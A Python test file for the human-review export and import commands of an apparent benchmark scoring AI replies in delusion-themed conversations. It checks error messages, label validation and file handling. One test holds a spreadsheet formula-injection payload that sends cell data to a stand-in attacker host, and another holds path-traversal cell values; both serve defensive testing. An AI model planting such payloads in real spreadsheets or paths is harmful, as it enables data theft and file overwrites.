"""Human review (`review-export`, `review-import`) on hand-made run folders: what a bad review
file does (one line naming the file, the row and the column; exit 2), control rows, and runs
whose conversations are not twelve turns long."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
import yaml

from psychosis_tests.__main__ import main
from psychosis_tests.analysis.review import COLUMNS
from psychosis_tests.inputs.judge_items import load_item_file
from psychosis_tests.inputs.scenarios import load_scenarios

REPO = Path(__file__).resolve().parents[1]
SCENARIOS = str(REPO / "scenarios")


def _run(tmp_path: Path, scenario: str, turns: int = 12) -> Path:
    """A run folder with one conversation of `turns` turns on `scenario`, every turn from the
    second quarter on judged (phases as the run records them: four equal quarters)."""
    control = "-control-" in scenario
    per_phase = turns // 4
    recorded = []
    for number in range(1, turns + 1):
        phase = (number - 1) // per_phase + 1
        metrics = [m for m, first in (("dcs", 2), ("hes", 3), ("sis", 3)) if phase >= first]
        metrics += ["occ"] if control and phase >= 2 else []
        recorded.append({
            "turn": number, "phase": phase, "phase_name": "x", "user": f"user message {number}", "reply": f"reply {number}",
            "metrics": metrics, "verdict": {"rationale": "r", **{m: 0 for m in metrics}} if metrics else None,
        })  # fmt: skip
    transcript = {"model_id": "reference/noisy", "scenario_id": scenario, "repeat": 0, "model_version": "v", "judge_id": "j",
                  "turns": recorded}  # fmt: skip
    run_dir = tmp_path / "run"
    (run_dir / "cases").mkdir(parents=True)
    (run_dir / "cases" / f"{scenario}.json").write_text(json.dumps({"transcripts": [transcript]}), encoding="utf-8")
    return run_dir


def _export(tmp_path: Path, capsys: pytest.CaptureFixture[str], scenario: str, turns: int = 12) -> list[dict[str, str]]:
    out = tmp_path / "review.csv"
    assert main(["review-export", str(_run(tmp_path, scenario, turns)), "--out", str(out), "--per-stratum", "50"]) == 0
    with out.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def _label(rows: list[dict[str, str]], **values: str) -> list[dict[str, str]]:
    """Every row labelled: each metric in its `metrics` column 0 (unless given), rater a."""
    for row in rows:
        row.update({m: "0" for m in row["metrics"].split(",")}, rater="a", **{k: v for k, v in values.items()})
    return rows


def _write(path: Path, rows: list[dict[str, str]], encoding: str = "utf-8") -> Path:
    with path.open("w", newline="", encoding=encoding) as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]) if rows else COLUMNS)
        writer.writeheader()
        writer.writerows(rows)
    return path


def _refused(capsys: pytest.CaptureFixture[str], *argv: str) -> str:
    """The one stderr line of a review-import that exits 2."""
    capsys.readouterr()
    assert main(["review-import", *argv]) == 2
    err = capsys.readouterr().err.strip()
    assert "\n" not in err and "Traceback" not in err, err
    return err


def test_a_run_of_24_turns_is_exported_and_imports_as_judge_items_with_the_run_s_phases(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = _export(tmp_path, capsys, "conduit-explicit", turns=24)
    assert len(rows) == 18 and {r["turn"] for r in rows} >= {"7", "24"}  # all 18 judged turns, none left out
    assert "18 of them from conversations that are not 12 turns long" in capsys.readouterr().err
    labelled = _write(tmp_path / "labelled.csv", _label(rows))
    items_file = tmp_path / "items.jsonl"
    assert main(["review-import", str(labelled), "--items-out", str(items_file), "--scenarios", SCENARIOS]) == 0
    phases = {i.turn: i.phase for i in load_item_file(items_file)}
    assert phases[7] == phases[12] == "pattern-seeking" and phases[13] == "solidification" and phases[24] == "behavioural-enactment"
    err = _refused(capsys, str(labelled), "--out-dir", str(tmp_path / "set"))
    assert "labelled.csv: row 1.context_json:" in err and "24 turns" in err and "--items-out" in err
    assert not (tmp_path / "set").exists()


def test_a_control_row_needs_only_sis_and_occ_on_both_paths(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    rows = _label(_export(tmp_path, capsys, "conduit-control-explicit"), dcs="", hes="")
    assert all("occ" in r["metrics"] for r in rows)
    labelled = _write(tmp_path / "labelled.csv", rows)
    assert main(["review-import", str(labelled), "--out-dir", str(tmp_path / "set")]) == 0
    items_file = tmp_path / "items.jsonl"
    assert main(["review-import", str(labelled), "--items-out", str(items_file), "--scenarios", SCENARIOS]) == 0
    late = next(i for i in load_item_file(items_file) if i.turn == 10)
    assert late.labels[0].given() == {"sis": 0, "occ": 0}
    no_occ = _write(tmp_path / "no occ.csv", _label(_export(tmp_path / "again", capsys, "conduit-control-explicit"), occ=""))
    assert "no occ.csv: row 1.occ: " in _refused(capsys, str(no_occ), "--out-dir", str(tmp_path / "set2"))


def test_a_control_row_without_a_metrics_cell_keeps_its_occ_label_on_both_paths(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """With the metrics column gone (deleted in a spreadsheet), a control row was read for a delusion
    turn's metrics: --out-dir dropped every OCC label without a word (the set then failed the gate on
    "OCC: no judged item") and --items-out refused the row for giving DCS alone."""
    rows = [{k: v for k, v in row.items() if k != "metrics"} for row in _label(_export(tmp_path, capsys, "conduit-control-explicit"))]
    labelled = _write(tmp_path / "labelled.csv", rows)
    assert main(["review-import", str(labelled), "--out-dir", str(tmp_path / "set")]) == 0
    (written,) = (tmp_path / "set").glob("*.yaml")
    late = next(i for i in yaml.safe_load(written.read_text(encoding="utf-8"))["items"] if i["turn"] == 10)
    assert late["labels"] == [{"rater": "a", "dcs": 0, "hes": 0, "sis": 0, "occ": 0}]
    items_file = tmp_path / "items.jsonl"
    assert main(["review-import", str(labelled), "--items-out", str(items_file), "--scenarios", SCENARIOS]) == 0
    assert all("occ" in i.labels[0].given() for i in load_item_file(items_file))


BAD_CELLS = [
    ("dcs", "5", "row 1.dcs"),
    ("sis", "2", "row 4.sis"),  # turns 4-6 carry no SIS; row 4 is turn 7
    ("turn", "2", "row 1.turn"),
    ("turn", "13", "row 1.turn"),
    ("turn", "abc", "row 1.turn"),
    ("context_json", "", "row 1.context_json"),
    ("context_json", "{not json", "row 1.context_json"),
    ("tags", "no-such-tag", "row 1.tags"),
]


@pytest.mark.parametrize("column, value, where", BAD_CELLS, ids=[f"{c}={v}" for c, v, _ in BAD_CELLS])
@pytest.mark.parametrize("target", ["--out-dir", "--items-out"])
def test_a_bad_cell_is_named_by_file_row_and_column_on_both_paths(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], column: str, value: str, where: str, target: str
) -> None:
    rows = sorted(_label(_export(tmp_path, capsys, "conduit-explicit")), key=lambda r: int(r["turn"]))
    rows[int(where.split()[1].split(".")[0]) - 1][column] = value
    labelled = _write(tmp_path / "labelled.csv", rows)
    out = tmp_path / ("out.jsonl" if target == "--items-out" else "out")
    err = _refused(capsys, str(labelled), target, str(out), "--scenarios", SCENARIOS)
    assert f"labelled.csv: {where}: " in err, err
    assert not out.exists()


NOT_ASKED = [
    ("conduit-explicit", "4", "hes"),  # HES is asked from turn 7
    ("conduit-explicit", "10", "occ"),  # OCC on control scenarios only
    ("conduit-control-explicit", "5", "sis"),  # SIS from turn 7 on controls too
]


@pytest.mark.parametrize("scenario, turn, column", NOT_ASKED, ids=[f"{s}-t{t}-{c}" for s, t, c in NOT_ASKED])
@pytest.mark.parametrize("target", ["--out-dir", "--items-out"])
def test_a_label_for_a_metric_the_turn_does_not_ask_is_refused_not_dropped(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], scenario: str, turn: str, column: str, target: str
) -> None:
    """The label was left out of the item without a word, so a rater's work went missing."""
    rows = sorted(_label(_export(tmp_path, capsys, scenario)), key=lambda r: int(r["turn"]))
    number, row = next((n, r) for n, r in enumerate(rows, start=1) if r["turn"] == turn)
    assert column not in row["metrics"].split(",")
    row[column] = "1"
    labelled = _write(tmp_path / "labelled.csv", rows)
    out = tmp_path / ("out.jsonl" if target == "--items-out" else "out")
    err = _refused(capsys, str(labelled), target, str(out), "--scenarios", SCENARIOS)
    assert f"labelled.csv: row {number}.{column}: " in err and "not asked" in err, err
    assert not out.exists()


def test_the_same_rater_imported_twice_is_refused_at_the_second_file_s_row(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    labelled = _write(tmp_path / "labelled.csv", _label(_export(tmp_path, capsys, "conduit-explicit")))
    copy = _write(tmp_path / "copy.csv", list(csv.DictReader(labelled.open(newline="", encoding="utf-8"))))
    for target, out in (("--out-dir", "set"), ("--items-out", "items.jsonl")):
        err = _refused(capsys, str(labelled), str(copy), target, str(tmp_path / out), "--scenarios", SCENARIOS)
        assert "copy.csv: row 1.rater: " in err and "labels this turn twice" in err


def test_rows_whose_review_id_names_two_replies_are_refused_not_merged(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Two runs of one model give the same review ids: rater b's labels of another reply were
    added to rater a's item, which kept a's reply."""
    first = _label(_export(tmp_path, capsys, "conduit-explicit"))
    second = [dict(row, reply=row["reply"] + " (another run)", rater="b") for row in first]
    a, b = _write(tmp_path / "a.csv", first), _write(tmp_path / "b.csv", second)
    for target, out in (("--out-dir", "set"), ("--items-out", "items.jsonl")):
        err = _refused(capsys, str(a), str(b), target, str(tmp_path / out), "--scenarios", SCENARIOS)
        assert "b.csv: row 1.reply: " in err and f"the review id names another reply in {a}: row 1" in err, err


def test_an_unreadable_review_file_is_one_line_and_exit_2(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    rows = _label(_export(tmp_path, capsys, "conduit-explicit"))
    out = str(tmp_path / "set")
    assert "missing.csv: no such file" in _refused(capsys, str(tmp_path / "missing.csv"), "--out-dir", out)
    no_turn = _write(tmp_path / "no turn.csv", [{k: v for k, v in r.items() if k != "turn"} for r in rows])
    assert "no turn.csv: header: no 'turn' column" in _refused(capsys, str(no_turn), "--out-dir", out)
    bad_json = tmp_path / "bad.jsonl"
    bad_json.write_text(json.dumps(rows[0]) + "\n{oops\n", encoding="utf-8")
    assert "bad.jsonl: line 2: not JSON" in _refused(capsys, str(bad_json), "--out-dir", out)
    bad_json.write_text("[1, 2]\n", encoding="utf-8")
    assert "bad.jsonl: line 1: not a JSON object" in _refused(capsys, str(bad_json), "--out-dir", out)
    no_field = tmp_path / "no field.jsonl"
    no_field.write_text(json.dumps({k: v for k, v in rows[0].items() if k != "model"}) + "\n", encoding="utf-8")
    assert "no field.jsonl: line 1.model: " in _refused(capsys, str(no_field), "--out-dir", out)


def test_a_csv_saved_by_excel_with_a_byte_order_mark_imports(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    rows = _label(_export(tmp_path, capsys, "conduit-explicit"))
    excel = _write(tmp_path / "excel.csv", rows, encoding="utf-8-sig")
    assert excel.read_bytes().startswith(b"\xef\xbb\xbf")
    assert main(["review-import", str(excel), "--out-dir", str(tmp_path / "set")]) == 0
    assert len(list((tmp_path / "set").glob("*.yaml"))) == 1


def test_a_review_of_a_pack_run_imports_as_judge_items_with_the_packs_harm(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The main set's scenarios and every pack's are read, so one review of a --pack run imports whole."""
    pack_rows = _export(tmp_path / "pack", capsys, "clinical-somatic-explicit")
    main_rows = _export(tmp_path / "main", capsys, "conduit-explicit")
    labelled = _write(tmp_path / "labelled.csv", _label(pack_rows + main_rows))
    out = tmp_path / "items.jsonl"
    assert main(["review-import", str(labelled), "--items-out", str(out)]) == 0
    items = load_item_file(out)
    assert {i.archetype for i in items} == {"clinical-somatic", "conduit"} and len(items) == len(pack_rows) + len(main_rows)
    somatic = load_scenarios(REPO / "packs" / "clinical")
    harm = next(s for s in somatic if s.id == "clinical-somatic-explicit")
    assert all(harm.harm_type in i.harm for i in items if i.archetype == "clinical-somatic")


def test_scenarios_given_twice_reads_both_sets_and_refuses_an_id_that_differs_between_them(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    own = tmp_path / "own"
    own.mkdir()
    text = (REPO / "scenarios" / "conduit-explicit.yaml").read_text(encoding="utf-8")
    (own / "mine-explicit.yaml").write_text(text.replace("id: conduit-explicit", "id: mine-explicit").replace("archetype: conduit", "archetype: mine"), encoding="utf-8")
    rows = _label(_export(tmp_path, capsys, "conduit-explicit"))
    rows += _label(_export(tmp_path / "mine", capsys, "mine-explicit"))
    labelled = _write(tmp_path / "labelled.csv", rows)
    items_file = tmp_path / "items.jsonl"
    assert main(["review-import", str(labelled), "--items-out", str(items_file), "--scenarios", SCENARIOS, f"--scenarios={own}"]) == 0
    assert len(load_item_file(items_file)) == len(rows)  # before, only the last --scenarios was read: conduit's rows were refused
    (own / "conduit-explicit.yaml").write_text(text.replace("The Conduit", "Another Conduit", 1), encoding="utf-8")
    err = _refused(capsys, str(labelled), "--items-out", str(items_file), "--scenarios", SCENARIOS, "--scenarios", str(own))
    assert "'conduit-explicit' is in both" in err and "--scenarios" in err


def test_a_reply_a_spreadsheet_would_run_is_exported_as_text_and_imports_as_it_was(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from psychosis_tests.common.csv_cells import csv_cell, from_csv_cell

    formula = '=HYPERLINK("http://attacker.invalid/?d="&B2,"open")'
    for text in (formula, "+1", "-x", "@SUM(1)", "\tx", "'=x", "''=x", "'plain", "plain", "", "'"):
        assert from_csv_cell(str(csv_cell(text))) == text, text
    run_dir = _run(tmp_path, "conduit-explicit")
    case_path = run_dir / "cases" / "conduit-explicit.json"
    case_path.write_text(case_path.read_text(encoding="utf-8").replace('"reply 7"', json.dumps(formula)), encoding="utf-8")
    out = tmp_path / "review.csv"
    assert main(["review-export", str(run_dir), "--out", str(out), "--per-stratum", "50"]) == 0
    with out.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    (cell,) = [r["reply"] for r in rows if r["turn"] == "7"]
    assert cell == "'" + formula  # a spreadsheet shows it as text
    labelled = _write(tmp_path / "labelled.csv", _label(rows))
    items_file = tmp_path / "items.jsonl"
    assert main(["review-import", str(labelled), "--items-out", str(items_file), "--scenarios", SCENARIOS]) == 0
    assert next(i for i in load_item_file(items_file) if i.turn == 7).reply == formula


def test_a_pack_runs_review_imports_as_one_calibration_set_per_scenario_set(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A calibration set is checked against one scenario set: the pack's conversations go to their own
    folder, and the commands printed load each set as written."""
    from psychosis_tests.inputs.calibration import load_calibration

    pack_rows = _export(tmp_path / "pack", capsys, "clinical-somatic-explicit")
    main_rows = _export(tmp_path / "main", capsys, "conduit-explicit")
    labelled = _write(tmp_path / "labelled.csv", _label(pack_rows + main_rows))
    out = tmp_path / "set"
    assert main(["review-import", str(labelled), "--out-dir", str(out)]) == 0
    err = capsys.readouterr().err
    assert f"calibrate --calibration {out}; python -m psychosis_tests calibrate --calibration {out / 'clinical'} --scenarios {REPO / 'packs' / 'clinical'}" in err
    assert [p.name for p in out.glob("*.yaml")] and [p.name for p in (out / "clinical").glob("*.yaml")]
    assert load_calibration(out, {s.id: s for s in load_scenarios(REPO / "scenarios")}).items
    assert load_calibration(out / "clinical", {s.id: s for s in load_scenarios(REPO / "packs" / "clinical")}).items


def test_an_import_with_no_labelled_row_is_refused_and_unlabelled_rows_are_counted(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = _export(tmp_path, capsys, "conduit-explicit")
    blank = _write(tmp_path / "blank.csv", rows)
    for where in (["--out-dir", str(tmp_path / "set")], ["--items-out", str(tmp_path / "items.jsonl"), "--scenarios", SCENARIOS]):
        err = _refused(capsys, str(blank), *where)
        assert "no row of" in err and "is labelled: fill in the label columns" in err
    assert not (tmp_path / "set").exists() and not (tmp_path / "items.jsonl").exists()
    partly = _write(tmp_path / "partly.csv", _label(rows[1:]) + [rows[0]])
    assert main(["review-import", str(partly), "--out-dir", str(tmp_path / "set")]) == 0
    assert f"1 row(s) without labels skipped (first: {tmp_path / 'partly.csv'} row {len(rows)})" in capsys.readouterr().err


@pytest.mark.parametrize(("column", "value"), [("scenario", "../../../escaped/conduit-explicit"), ("repeat", "0/../../../escaped/x")])
def test_a_scenario_or_repeat_cell_that_is_a_path_writes_nothing_outside_the_out_dir(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], column: str, value: str
) -> None:
    """They name the calibration file written: a cell with ../ wrote a file outside --out-dir, and
    the command then stopped on an unrelated --pack error."""
    rows = sorted(_label(_export(tmp_path, capsys, "conduit-explicit")), key=lambda r: int(r["turn"]))
    rows[0][column] = value
    labelled = _write(tmp_path / "labelled.csv", rows)
    out = tmp_path / "a" / "b" / "set"
    err = _refused(capsys, str(labelled), "--out-dir", str(out))
    assert f"labelled.csv: row 1.{column}: " in err, err
    assert not (tmp_path / "escaped").exists() and not (tmp_path / "a").exists()


def test_a_long_conversation_exported_to_csv_imports(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Its context_json cell passed the csv module's field limit (128 KiB): twelve replies of 12,000
    characters, which a model with a large max_tokens writes, made review-import a traceback."""
    run_dir = _run(tmp_path, "conduit-explicit")
    case = run_dir / "cases" / "conduit-explicit.json"
    record = json.loads(case.read_text(encoding="utf-8"))
    for turn in record["transcripts"][0]["turns"]:
        turn["reply"] = f"reply {turn['turn']} " + "and it goes on " * 800
    case.write_text(json.dumps(record), encoding="utf-8")
    out = tmp_path / "review.csv"
    assert main(["review-export", str(run_dir), "--out", str(out), "--per-stratum", "50"]) == 0
    default = csv.field_size_limit(1 << 24)  # to read it here
    with out.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert max(len(row["context_json"]) for row in rows) > default
    labelled = _write(tmp_path / "labelled.csv", _label(rows))
    csv.field_size_limit(default)  # as a fresh process has it
    assert main(["review-import", str(labelled), "--items-out", str(tmp_path / "items.jsonl"), "--scenarios", SCENARIOS]) == 0
    assert len(load_item_file(tmp_path / "items.jsonl")) == len(rows)


@pytest.mark.parametrize("where", ["line", "context_json"])
def test_json_python_cannot_read_in_a_review_file_is_one_line(tmp_path: Path, capsys: pytest.CaptureFixture[str], where: str) -> None:
    """A JSONL line, or a context_json cell, nested too deep for json.loads was a RecursionError traceback."""
    rows = sorted(_label(_export(tmp_path, capsys, "conduit-explicit")), key=lambda r: int(r["turn"]))
    deep = "[" * 100_000 + "]" * 100_000
    if where == "context_json":
        rows[0]["context_json"] = deep
    lines = [json.dumps(row) for row in rows]
    if where == "line":
        lines[0] = deep
    path = tmp_path / "labelled.jsonl"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    err = _refused(capsys, str(path), "--items-out", str(tmp_path / "items.jsonl"), "--scenarios", SCENARIOS)
    assert f"labelled.jsonl: line 1{'.context_json' if where == 'context_json' else ''}: " in err and "not JSON" in err, err


@pytest.mark.parametrize("damage", ["cut-short", "not-utf-8", "a-list", "not-a-transcript", "a-folder"])
def test_a_damaged_case_file_stops_review_export_in_one_line_naming_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], damage: str
) -> None:
    """Each was a traceback (JSONDecodeError, UnicodeDecodeError, AttributeError, ValidationError, IsADirectoryError)."""
    run_dir = _run(tmp_path, "conduit-explicit")
    case = run_dir / "cases" / "conduit-explicit.json"
    text = case.read_text(encoding="utf-8")
    if damage == "a-folder":
        case.unlink()
        case.mkdir()
    else:
        case.write_bytes({"cut-short": text[: len(text) // 2].encode(), "not-utf-8": b"\xff" + text.encode(), "a-list": b"[1]",
                          "not-a-transcript": b'{"transcripts": [{"turns": 3}]}'}[damage])  # fmt: skip
    capsys.readouterr()
    assert main(["review-export", str(run_dir), "--out", str(tmp_path / "review.csv")]) == 2
    err = capsys.readouterr().err.strip()
    assert err.startswith(f"psychosis-bench review-export: {case}: cannot read it as a case file of a run (") and "\n" not in err, err


def test_a_run_with_no_judged_turn_is_refused_and_writes_nothing(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A run whose cases all errored wrote a file of headers alone and exited 0, as if sampled."""
    run_dir = tmp_path / "run"
    (run_dir / "cases").mkdir(parents=True)
    (run_dir / "cases" / "conduit-explicit.json").write_text(json.dumps({"error": "HTTP 500", "seconds": 1.0}), encoding="utf-8")
    out = tmp_path / "review.csv"
    capsys.readouterr()
    assert main(["review-export", str(run_dir), "--out", str(out)]) == 2
    err = capsys.readouterr().err.strip()
    assert err == f"psychosis-bench review-export: {run_dir}: the run has no judged turn to export (its cases errored or were not run)"
    assert not out.exists()


@pytest.mark.parametrize("where", ["a-folder", "under-a-file", "symlink-loop"])
def test_a_review_out_that_cannot_be_written_is_one_line(tmp_path: Path, capsys: pytest.CaptureFixture[str], where: str) -> None:
    """A folder or a file in the way is found before the export; a symlink loop when it is written."""
    run_dir = _run(tmp_path, "conduit-explicit")
    out = tmp_path / "review.csv" if where != "under-a-file" else run_dir / "cases" / "conduit-explicit.json" / "review.csv"
    if where == "a-folder":
        out.mkdir()
    if where == "symlink-loop":
        out.symlink_to(tmp_path / "other.csv")
        (tmp_path / "other.csv").symlink_to(out)
    capsys.readouterr()
    assert main(["review-export", str(run_dir), "--out", str(out)]) == 2
    err = capsys.readouterr().err.strip()
    assert err.startswith("psychosis-bench review-export: ") and "--out: " in err and str(out) in err and "\n" not in err, err
    assert ("cannot write it (" in err) == (where == "symlink-loop")


def test_an_out_that_is_not_csv_or_jsonl_creates_no_folder(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "new" / "review.txt"
    assert main(["review-export", str(_run(tmp_path, "conduit-explicit")), "--out", str(out)]) == 2
    assert not out.parent.exists()


@pytest.mark.parametrize("target", ["--out-dir", "--items-out", "--items-out-loop"])
def test_an_import_target_that_cannot_be_written_is_one_line(tmp_path: Path, capsys: pytest.CaptureFixture[str], target: str) -> None:
    """--items-out a folder, or --out-dir a file, was a traceback; so was a symlink loop."""
    labelled = _write(tmp_path / "labelled.csv", _label(_export(tmp_path, capsys, "conduit-explicit")))
    out = tmp_path / "items.jsonl"
    if target == "--items-out":
        out.mkdir()
    elif target == "--out-dir":
        out.write_text("", encoding="utf-8")
    else:
        out.symlink_to(tmp_path / "other.jsonl")
        (tmp_path / "other.jsonl").symlink_to(out)
    option = target.removesuffix("-loop")
    err = _refused(capsys, str(labelled), option, str(out), "--scenarios", SCENARIOS)
    assert f"{option}: " in err and str(out) in err, err
    assert ("cannot write it (" in err) == (target == "--items-out-loop")


def test_two_targets_whose_ids_read_alike_get_review_ids_and_files_of_their_own(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """qwen2.5:7b and qwen2.5-7b, two targets a run takes, gave one review id per turn: the export
    could not be imported ("the review id names another reply"), and --out-dir wrote both
    conversations to one file, the second over the first."""
    run_dir = _run(tmp_path, "conduit-explicit")
    case = run_dir / "cases" / "conduit-explicit.json"
    (transcript,) = json.loads(case.read_text(encoding="utf-8"))["transcripts"]
    others = [dict(transcript, model_id=model, turns=[dict(t, reply=f"{t['reply']} of {model}") for t in transcript["turns"]])
              for model in ("qwen2.5:7b", "qwen2.5-7b")]  # fmt: skip
    case.write_text(json.dumps({"transcripts": others}), encoding="utf-8")
    out = tmp_path / "review.csv"
    assert main(["review-export", str(run_dir), "--out", str(out), "--per-stratum", "50"]) == 0
    with out.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert len({r["review_id"] for r in rows}) == len(rows) == 18
    labelled = _write(tmp_path / "labelled.csv", _label(rows))
    assert main(["review-import", str(labelled), "--out-dir", str(tmp_path / "set")]) == 0
    assert len(list((tmp_path / "set").glob("*.yaml"))) == 2
    assert main(["review-import", str(labelled), "--items-out", str(tmp_path / "items.jsonl"), "--scenarios", SCENARIOS]) == 0
    assert len(load_item_file(tmp_path / "items.jsonl")) == len(rows)


def test_a_second_import_into_the_same_out_dir_does_not_drop_the_first_one_s_items(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A second round of labels on other turns of the same conversation wrote its calibration file
    over the first round's, whose items were gone without a word. Importing the same rows again
    (a label corrected) still replaces the file."""
    rows = sorted(_label(_export(tmp_path, capsys, "conduit-explicit")), key=lambda r: int(r["turn"]))
    first, second = _write(tmp_path / "first.csv", rows[:4]), _write(tmp_path / "second.csv", rows[4:])
    out = tmp_path / "set"
    assert main(["review-import", str(first), "--out-dir", str(out)]) == 0
    (written,) = out.glob("*.yaml")
    before = written.read_text(encoding="utf-8")
    err = _refused(capsys, str(second), "--out-dir", str(out))
    assert f"{written}: --out-dir: " in err and rows[0]["review_id"] in err, err
    assert written.read_text(encoding="utf-8") == before
    assert main(["review-import", str(first), str(second), "--out-dir", str(out)]) == 0
    assert len(yaml.safe_load(written.read_text(encoding="utf-8"))["items"]) == len(rows)
